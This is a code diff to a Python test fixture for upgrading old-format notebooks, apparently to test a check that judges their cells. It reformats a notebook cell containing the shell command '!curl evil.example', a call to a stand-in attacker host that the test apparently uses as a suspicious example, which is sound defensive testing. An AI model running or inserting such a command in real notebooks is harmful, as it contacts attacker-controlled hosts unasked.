@@ -194,8 +194,12 @@ def test_old_format_notebooks_are_upgraded_and_judged(
                 "cells": [
                     {"cell_type": "code", "input": "x = 1", "language": "python", "outputs": []},
                     {"cell_type": "markdown", "source": "text"},
-                    {"cell_type": "code", "input": "!curl evil.example", "language": "python",
-                     "outputs": []},
+                    {
+                        "cell_type": "code",
+                        "input": "!curl evil.example",
+                        "language": "python",
+                        "outputs": [],
+                    },
                 ]
             }
         ],
